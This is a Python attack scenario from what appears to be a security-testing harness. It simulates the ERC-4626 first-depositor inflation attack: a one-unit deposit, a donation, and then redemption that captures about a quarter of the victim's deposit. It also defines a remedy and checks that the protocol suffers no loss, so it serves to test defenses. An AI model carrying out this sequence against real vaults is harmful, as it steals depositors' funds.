"""The first depositor of a vault makes one share dear before the second one comes.

One base unit buys the first share; a gift makes it worth half of what a victim is about to deposit,
plus a little; the victim's shares are rounded down from almost two to one, and each
share is worth half of all there is. The attacker gains a quarter of the victim's deposit.
"""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from harness.attacks.calls import all_of, call, supply
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Stage


@dataclass(frozen=True)
class First(Parameters):
    """deposit: the victim's, whole tokens of $1."""

    deposit: float = 20_000.0


def play(stage: Stage, p: First) -> Generator[int | None, None, None]:
    """Goes first in the victim's block, and out after it."""
    usd = stage.token("USD", 1)
    stage.feed("USD")
    base = stage.lending("base", {"USD": {}})
    vault = stage.vault("vUSD", base, "USD", counts_gifts=not p.remedied)
    attacker = stage.actor("attacker", USD=p.deposit / 2 + 1)
    victim = stage.actor("victim", "victim", USD=p.deposit)
    stage.approve(attacker, ["USD"], vault, base)
    stage.approve(victim, ["USD"], vault)
    yield None

    deposit = stage.units("USD", p.deposit)
    stage.send(
        "deposit one base unit, give the vault half of what the victim will deposit",
        attacker,
        call(vault, "deposit", 1, attacker),
        supply(base.market, usd, deposit // 2, vault),
        place="first",
    )
    stage.send("deposit", victim, call(vault, "deposit", deposit, victim))
    yield None
    stage.send(
        "redeem", attacker, call(vault, "redeem", all_of(vault, attacker), attacker, attacker)
    )
    yield None
    shares = stage.balance("vUSD", victim)
    if stage.read(vault, "previewRedeem", shares) >= deposit - 1:
        stage.guard("the gift is not counted: the victim's shares are worth its deposit")


ATTACK = Attack(
    name="first-depositor",
    title="the first depositor inflates the share, the second one's shares round down",
    sources=("ERC-4626 inflation attack; OpenZeppelin, 'A novel defense', 2023",),
    play=play,
    parameters=First(),
    remedy="a vault that counts what it was sent by depositors, not what it holds",
    stopped_by="the gift is not counted",
    protocol=(Check("profit", at_most=0), Check("loss", at_most=0.01)),
    goal=lambda p: Check("profit", at_least=p.deposit / 4 * 0.9999),
)
